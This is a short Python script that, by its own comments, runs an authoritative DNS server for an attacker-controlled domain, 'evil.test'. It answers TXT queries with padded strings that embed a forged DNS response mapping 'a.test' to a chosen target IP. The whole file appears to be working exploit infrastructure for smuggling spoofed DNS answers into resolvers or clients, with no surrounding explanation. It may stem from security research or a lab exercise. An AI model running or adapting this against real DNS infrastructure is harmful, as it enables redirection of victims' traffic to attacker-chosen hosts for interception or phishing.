#!/usr/bin/env python3
# An authoritative server for evil.test (the attacker's own domain on the
# internet): TXT for pNN.*.evil.test whose string ends with a whole DNS
# message (2-byte length first) answering "a.test A TARGET", after NN bytes of padding.
import socket, struct, sys, threading
bind, target = sys.argv[1], sys.argv[2]

def fake():
    msg = struct.pack(">HHHHHH", 0x1234, 0x8180, 1, 1, 0, 0)
    msg += b"\x01a\x04test\x00" + struct.pack(">HH", 1, 1)
    msg += struct.pack(">HHHIH", 0xc00c, 1, 1, 3600, 4) + socket.inet_aton(target)
    return struct.pack(">H", len(msg)) + msg

def answer(q):
    qid, flags, qd = struct.unpack(">HHH", q[:6])
    p, labels = 12, []
    while q[p]:
        labels.append(q[p + 1:p + 1 + q[p]]); p += 1 + q[p]
    qend = p + 5
    question = q[12:qend]
    pad = 0
    if labels and labels[0][:1] == b"p":
        try: pad = int(labels[0][1:])
        except ValueError: pad = 0
    txt = b"X" * pad + fake()
    rr = struct.pack(">HHHIH", 0xc00c, 16, 1, 0, len(txt) + 1) + bytes([len(txt)]) + txt
    return struct.pack(">HHHHHH", qid, 0x8580, 1, 1, 0, 0) + question + rr

def udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((bind, 53))
    while True:
        q, a = s.recvfrom(4096)
        try: s.sendto(answer(q), a)
        except Exception as e: print("udp", e, flush=True)

def tcp_conn(c):
    try:
        while True:
            h = c.recv(2)
            if len(h) < 2: return
            n = struct.unpack(">H", h)[0]; q = b""
            while len(q) < n:
                d = c.recv(n - len(q))
                if not d: return
                q += d
            r = answer(q); c.sendall(struct.pack(">H", len(r)) + r)
    except Exception as e: print("tcp", e, flush=True)
    finally: c.close()

def tcp():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((bind, 53)); s.listen(64)
    while True:
        c, _ = s.accept(); threading.Thread(target=tcp_conn, args=(c,), daemon=True).start()

threading.Thread(target=udp, daemon=True).start()
tcp()
